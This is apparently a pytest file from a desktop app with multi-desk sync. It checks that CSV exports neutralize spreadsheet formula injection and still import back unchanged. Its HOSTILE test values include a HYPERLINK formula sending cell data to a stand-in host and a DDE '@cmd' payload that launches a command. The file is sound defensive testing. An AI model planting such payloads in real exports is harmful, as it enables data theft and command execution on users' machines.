"""Finding 10: a value that a spreadsheet would run as a formula (= + - @, tab, CR) reaches every CSV
the project writes neutralized, also when it came from another desk through the server; the
export still imports back unchanged."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

from desktop.domain.models import Note, Person, Request
from desktop.services.csv_cells import FORMULA_STARTS, neutralize, restore
from desktop.services.export import write_csv_folder
from desktop.services.person_import import import_persons
from desktop.storage.store import Store
from tests.helpers.desks import open_desk
from tests.helpers.sync_server import RunningServer

NewDesk = Callable[[str], Store]

HOSTILE = {
    "last_name": '=HYPERLINK("http://example.invalid/?d="&C2,"Apri")',
    "first_name": "+SUM(A1:A9)",
    "address": "@cmd|' /C calc'!A0",
    "notes": "-2+3",
    "phone": "+39 000 1234567",
}


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def test_formulas_from_another_desk_are_neutralized_in_every_csv(
    server: RunningServer, new_desk: NewDesk, tmp_path: Path
) -> None:
    a, b = new_desk("a"), new_desk("b")
    ca, cb = server.enroll(a, "A", "rete"), server.enroll(b, "B", "rete")
    person = a.save(Person(**HOSTILE))
    request = a.save(Request(person_id=person.id, category="DIG", description="=1+1"))
    a.save(Note(request_id=request.id, text="\t=cmd()"))
    plain = a.save(Person(last_name="Chiabrando", first_name="Rita"))
    assert ca.sync().complete and cb.sync().complete
    received = b.get(Person, person.id)
    assert received is not None and received.last_name == HOSTILE["last_name"]  # stored as written

    write_csv_folder(b, tmp_path / "export")
    every_cell = [cell for name in ("persone.csv", "richieste.csv", "note.csv", "cambi_stato.csv", "invii.csv",
                                    "servizi.csv", "enti.csv")
                  for row in _cells(tmp_path / "export" / name) for cell in row]
    assert every_cell and not [cell for cell in every_cell if cell.startswith(FORMULA_STARTS)]
    persons = {row[0]: row for row in _cells(tmp_path / "export" / "persone.csv")}
    assert persons[person.id][2] == "'" + HOSTILE["last_name"]
    assert persons[plain.id][2] == "Chiabrando"  # ordinary values untouched

    # The export imports back as is: the apostrophes come off again.
    with open_desk(tmp_path / "again") as again:
        report = import_persons(again, tmp_path / "export" / "persone.csv")
        assert not report.rejected
        back = {p["last_name"]: p for p in again.query("SELECT * FROM persons")}
    assert back[HOSTILE["last_name"]]["first_name"] == HOSTILE["first_name"]
    assert back[HOSTILE["last_name"]]["address"] == HOSTILE["address"]
    assert back[HOSTILE["last_name"]]["phone"] == HOSTILE["phone"]

    # Nothing else changed: the desks go on syncing.
    b.save(Person(last_name="Dopo", first_name="Export"))
    assert cb.sync().complete and ca.sync().complete
    assert a.count("person") == b.count("person") == 3


def test_neutralize_and_restore_are_inverse() -> None:
    for text in ["", "Rossi", "'Rossi", "=1", "+1", "-1", "@a", "\tx", "\rx", "'=1", "a=1"]:
        assert restore(neutralize(text)) == text
        assert not neutralize(text).startswith(FORMULA_STARTS)
